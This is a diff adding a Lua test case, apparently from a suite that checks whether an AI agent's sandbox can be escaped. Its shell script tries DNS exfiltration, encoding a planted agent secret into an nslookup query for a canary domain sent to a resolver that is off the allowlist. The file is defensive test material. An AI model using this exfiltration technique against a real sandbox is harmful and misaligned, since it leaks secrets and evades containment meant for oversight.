@@ -1,0 +1,15 @@
+-- attack 4 (a resolver off the allowlist): <planted secret>.<canary domain>
+-- asked of the canary resolver's own address directly
+return {
+  id = "4r",
+  name = "DNS exfiltration straight to a resolver off the allowlist",
+  layer = "network",
+  stops = "internal network + seal: no route to any address but the bundle's",
+  targets = { "resolver" },
+  script = [=[
+name="$CORK_ESCAPE_AGENT_SECRET.exfil.escape-canary.invalid"
+out=$(timeout 5 nslookup -timeout=2 -retry=1 "$name" "$HOST" 2>&1 | grep -v -F "$CORK_ESCAPE_AGENT_SECRET" | tr '\n' ' ')
+echo "resolver $HOST: $out"
+case $out in *NXDOMAIN*|*"Non-authoritative answer: Name:"*|*"Connection refused"*) echo "REACHED resolver $HOST: $out";; esac
+]=],
+}
